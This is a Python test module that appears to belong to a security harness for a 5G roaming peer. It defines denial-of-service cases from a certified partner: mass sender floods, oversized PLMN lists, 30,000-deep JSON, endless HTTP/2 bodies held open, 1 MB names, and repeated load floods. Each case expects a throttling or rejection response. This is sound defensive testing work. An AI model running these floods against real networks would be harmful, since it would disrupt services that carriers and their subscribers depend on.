# SPDX-License-Identifier: MIT
"""A partner with a valid certificate whose requests are too many, too long, or too deep."""

import pki
import scene
from attack import attack
from lib.frames import ENHANCE_YOUR_CALM, data, settings, window_update
from lib.peer import body_of
from on_http2 import is_over

AT_ONCE, WINDOW_BYTES = 50, 256 * 1024
LARGEST_WINDOW = 2**31 - 1
CONNECTIONS, STREAMS, FRAME_BYTES = 64, 4, 16384
SENDERS, PLMNS, DEPTH, FQDN_BYTES = 100_000, 1000, 30_000, 1_000_000


def pieces(stream, payload, end=False):
    """DATA frames of the largest size that every peer has to take."""
    starts = range(0, len(payload), FRAME_BYTES)
    return [data(stream, payload[at:at + FRAME_BYTES], end and at == starts[-1]) for at in starts]


class Posts:
    """Requests in batches on one connection after the other; their statuses are seen."""

    def __init__(self, means):
        self.means, self.connection, self.stream = means, None, 1

    def send(self, bodies):
        """One batch.  When the connection ends, the next batch is sent on a new one."""
        if not self.connection:
            self._open()
        frames, streams = [], []
        for body in bodies:
            frames += [self.connection.headers(self.stream), *pieces(self.stream, body, end=True)]
            streams.append(self.stream)
            self.stream += 2
        self.connection.send(*frames)
        if not all([self._answer(stream) for stream in streams]):
            self.close()

    def close(self):
        if self.connection:
            self.connection.wire.close()
        self.connection, self.stream = None, 1

    def _open(self):
        self.connection = self.means.frames()
        self.connection.send(settings(INITIAL_WINDOW_SIZE=LARGEST_WINDOW),
                             window_update(0, LARGEST_WINDOW - 65535))

    def _answer(self, stream):
        response = self.connection.wait(stream)
        if response.status:
            self.means.saw(str(response.status))
        else:
            goaway = self.connection.wait_for_goaway(0)
            calm = goaway and goaway.error_code == ENHANCE_YOUR_CALM
            self.means.saw("GOAWAY 11" if calm else "ended")
        return response.done and response.status and not self.connection.wire.is_over


def repeat(means, body):
    """The same body as often as there is time."""
    posts = Posts(means)
    while means.has_time():
        posts.send([body] * min(AT_ONCE, WINDOW_BYTES // len(body)))
    posts.close()


@attack("100,000 senders from one certificate", "429", "403", "GOAWAY 11")
def senders(means):
    bodies = [means.peer.body(sender=pki.fqdn(scene.HOSTILE, f"host-{n}"))
              for n in range(SENDERS)]
    yield
    posts = Posts(means)
    at = 0
    while means.has_time() and at < SENDERS:
        posts.send(bodies[at:at + AT_ONCE])
        at += AT_ONCE
    posts.close()


@attack("1,000 PLMNs in a request", "429", "400", "403", "200", "GOAWAY 11")
def plmns(means):
    ids = [{"mcc": f"{n // 100 + 310}", "mnc": f"{n % 100:02}"} for n in range(PLMNS)]
    body = means.peer.body(["PRINS"], plmnIdList=ids)
    yield
    repeat(means, body)


@attack("JSON 30,000 levels deep", "429", "400", "GOAWAY 11")
def deep_json(means):
    body = b'{"sender":' + b"[" * DEPTH + b"]" * DEPTH + b"}"
    yield
    repeat(means, body)


@attack("bodies without end on as many connections as there may be", "ended", "held")
def endless_bodies(means):
    piece = b" " * (WINDOW_BYTES // STREAMS - 1)
    yield
    held = []
    while means.has_time():
        if len(held) < CONNECTIONS:
            connection = means.frames()
            for stream in range(1, 2 * STREAMS, 2):
                connection.send(connection.headers(stream), *pieces(stream, piece))
            held.append(connection)
        else:
            means.pause(0.1)
    for connection in held:
        means.saw("ended" if is_over(connection) else "held")


@attack("a name of 1 MB", "413", "429")
def long_name(means):
    body = body_of({"sender": "a" * FQDN_BYTES, "supportedSecCapabilityList": ["TLS"]})
    yield
    while means.has_time():
        with means.peer.connect(means) as connection:
            means.connections += 1
            means.saw(str(connection.negotiate(body).status))
            means.sent += connection.wire.sent


@attack("flooding partner: valid negotiations on kept connections", "429", "200")
def flooding_kept(means):
    yield
    flood(means, "keep", "-c", "8", "-m", "8")


@attack("flooding partner: a new connection each time", "429", "200", "closed", "reset")
def flooding_new(means):
    yield
    flood(means, "conn", "-c", "32", "--close", "client")


def flood(means, mode, *options):
    """The load client, again and again, without a limit of its own."""
    while means.has_time():
        seen = scene.load(means, mode, means.peer, means.scene.hostile_body, "-n", "1000",
                          "--max-errors", "1000000", *options, limit_s=60)
        for status, times in seen["by_status"].items():
            means.saw(status, times)
        for what, times in seen["errors"].items():
            means.saw(what, times)
        means.connections += 8 if mode == "keep" else seen["operations"]
